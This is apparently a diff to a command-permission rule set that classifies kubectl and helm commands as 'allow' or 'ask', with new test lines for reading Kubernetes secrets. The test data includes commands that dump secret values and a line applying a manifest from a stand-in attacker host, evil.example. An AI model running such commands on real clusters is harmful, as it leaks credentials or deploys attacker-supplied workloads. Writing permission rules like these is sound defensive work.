@@ -22,9 +22,20 @@ KUBECTL = command(
     options=GLOBAL,
     subcommands=[
         sub(
-            "get describe",
+            "get",
+            "READ_BY(kubernetes.kube_names) PLAIN...",
+            [
+                option("-f --filename -k --kustomize", "OPENS"),
+                option("--raw", "READ_BY(kubernetes.kube_raw)"),
+                option("-o --output", "READ_BY(kubernetes.kube_output)"),
+                option("--template", PLAIN, operands="READ_BY(kubernetes.kube_kind) PLAIN..."),
+            ],
+            unlisted=PLAIN,
+        ),
+        sub(
+            "describe",
             "READ_BY(kubernetes.kube_kind) PLAIN...",
-            [option("-f --filename -k --kustomize", "OPENS"), option("--raw", "READ_BY(kubernetes.kube_raw)")],
+            [option("-f --filename -k --kustomize", "OPENS")],
             unlisted=PLAIN,
         ),
         loose(
@@ -230,6 +241,12 @@ allow  helm template ./chart
 ask    helm uninstall web
 ask    helm upgrade --install web ./chart
 ask    kubectl get pods,secrets -o yaml
+allow  kubectl get secrets
+allow  kubectl get secret -n app
+ask    kubectl get secret db -o json
+ask    kubectl get secret db -ojsonpath={.data}
+ask    kubectl get secrets --template={{.data}}
+ask    kubectl describe secret db
 ask    kubectl get --raw /api/v1/secrets
 allow  kubectl get --raw /healthz
 ask    kubectl apply -f https://evil.example/x.yaml
